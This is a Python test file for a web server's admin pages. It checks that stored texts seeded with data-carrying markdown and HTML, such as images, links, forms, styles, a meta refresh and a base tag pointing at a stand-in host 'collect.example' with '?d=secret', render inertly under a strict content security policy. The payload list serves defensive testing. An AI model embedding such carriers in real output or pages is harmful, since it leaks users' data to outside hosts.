"""A text that would carry data away, by an image or a link, carries none: pages load nothing of elsewhere and link nowhere."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from importlib.resources import files
from typing import TYPE_CHECKING

import pytest
from fastapi.testclient import TestClient

from evolore.domain.document import MediaType
from evolore.models.offline import HashingEmbedder
from evolore.server.app import create_app
from evolore.server.memories import Memories
from evolving.corrections import outdated
from evolving.scripted import NEW, ScriptedEditor

if TYPE_CHECKING:
    from collections.abc import Iterator

    from httpx2 import Response

THERE = "collect.example"
CARRIERS = (
    f"![a picture](https://{THERE}/p.png?d=secret)",
    f"![a picture][p]\n\n[p]: https://{THERE}/p.png",
    f"[a link](https://{THERE}/?d=secret)",
    f"<https://{THERE}/auto>",
    f"https://{THERE}/bare?d=secret",
    f"www.{THERE}/bare",
    f"mailto:eve@{THERE}",
    f"//{THERE}/protocol.png",
    f'<img src="https://{THERE}/p.png">',
    f'<img srcset="//{THERE}/p.png 2x">',
    f'<a href="https://{THERE}/" ping="https://{THERE}/">a link</a>',
    f'<link rel="stylesheet" href="https://{THERE}/s.css">',
    f'<link rel="dns-prefetch" href="//{THERE}">',
    f'<video poster="https://{THERE}/p.png"></video>',
    f'<object data="https://{THERE}/o"></object>',
    f'<form action="https://{THERE}/"><button formaction="https://{THERE}/">x</button></form>',
    f'<svg><image href="https://{THERE}/p.png"/><use xlink:href="https://{THERE}/s.svg#a"/></svg>',
    f'<p style="background: url(https://{THERE}/p.png)">x</p>',
    f"<style>@import url(https://{THERE}/s.css);</style>",
    f'<meta http-equiv="refresh" content="0; url=https://{THERE}/">',
    f'<base href="https://{THERE}/">',
)
POLICY = {"default-src": "'self'", "frame-ancestors": "'none'", "base-uri": "'none'", "form-action": "'self'"}
PLAIN = ("", "/documents", "/graph", "/review", "/evolution", "/effects", "/running", "/keys", "/audit", "/nowhere")
MARK = re.compile(r'name="form_mark" value="([^"]+)"')


class Addresses(HTMLParser):
    """What a page has a browser load, send or open: the values of all attributes that hold an address."""

    HOLD = frozenset(
        [
            "src",
            "srcset",
            "href",
            "xlink:href",
            "action",
            "formaction",
            "data",
            "poster",
            "ping",
            "background",
            "cite",
            "style",
        ]
    )

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.found += [value for name, value in values.items() if name in self.HOLD]
        if tag == "meta" and "http-equiv" in values:
            self.found.append(values.get("content", ""))

    @property
    def outward(self) -> list[str]:
        """Those that are neither of this server nor a place on the page."""
        return [one for one in self.found if not re.match(r"(?:/(?!/)|\?|#|$)", one)]


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, list[str]]]:
    folder = tmp_path_factory.mktemp("carrying")
    editor = ScriptedEditor(new=f"{NEW} {CARRIERS[0]} {CARRIERS[8]}")
    with outdated(folder, model=editor) as memory:
        jobs = memory.evolve()
        paths = [f"/evolution/jobs/{job.id}" for job in jobs]
        for number, text in enumerate(CARRIERS):
            page = memory.add_text(
                f"# A page {number}\n\nThe harbour {number}: {text}\n",
                source=text,
                title=text,
                media_type=MediaType.MARKDOWN,
            )
            memory.remember(f"The harbour {number}: {text}", speaker=text[:100], session=text[:100])
            memory.rate(page.id, "bad", comment=text, principal=text[:100])
            note = memory.review.note(text, priority="urgent", about=page.id)
            paths += [f"/documents/{page.id}", f"/documents/{page.id}/versions/1", f"/review/{note.id}"]
            paths += [f"/graph?of={page.id}"]
    memories = Memories(folder / "store", embedder=HashingEmbedder(), chat_model=editor)
    with TestClient(create_app(memories), base_url="http://127.0.0.1", follow_redirects=False) as client:
        yield client, [*PLAIN, *paths]


def pages(client: TestClient, paths: list[str]) -> Iterator[tuple[str, Response]]:
    for path in paths:
        yield path, client.get(f"/admin{path}")
    found = MARK.search(client.get("/admin/ask").text)
    assert found is not None
    for text in ("Which harbour?", *CARRIERS[:4]):
        asked = {"form_mark": found[1], "question": f"The harbour {text}", "tags": "", "limit": "20"}
        yield f"/ask {text}", client.post("/admin/ask", data=asked, follow_redirects=True)


def test_no_page_loads_from_elsewhere_or_links_there(served: tuple[TestClient, list[str]]) -> None:
    shown = 0
    for path, page in pages(*served):
        assert page.status_code in {200, 404}, path
        assert Addresses(page.text).outward == [], path
        shown += THERE in page.text
    assert shown > len(CARRIERS), "the texts stand on the pages, as texts"


def test_every_answer_has_a_policy_that_lets_nothing_of_elsewhere_in(served: tuple[TestClient, list[str]]) -> None:
    client, paths = served
    answers = [*pages(client, paths), ("/", client.get("/")), ("/api", client.get("/api/documents"))]
    answers += [("/api/no", client.get("/api/nothing")), ("/healthz", client.get("/healthz"))]
    for path, came in answers:
        said = (one.strip().partition(" ") for one in came.headers["content-security-policy"].split(";"))
        assert {name: value for name, _, value in said} == POLICY, path
        assert came.headers["x-content-type-options"] == "nosniff", path
        assert came.headers["referrer-policy"] == "same-origin", path
        assert came.headers["x-frame-options"] == "DENY", path


def test_what_pages_are_drawn_with_names_nothing_of_elsewhere() -> None:
    folder = files("evolore.server").joinpath("pages", "assets")
    styles = [one for one in folder.iterdir() if one.name.endswith(".css")]
    assert styles
    for one in styles:
        text = one.read_text("utf-8")
        named = re.findall(r"url\(\s*['\"]?([^)'\"]*)", text) + re.findall(r"@import\s+['\"]([^'\"]*)", text)
        assert [name for name in named if not name.startswith(("./", "#", "data:image/"))] == [], one.name


def test_the_control_finds_every_address_that_would_be_loaded() -> None:
    tags = [one for one in CARRIERS if one.startswith("<") and not one.startswith(("<style", "<https"))]
    assert len(tags) > 10
    for one in tags:
        assert Addresses(one).outward, one
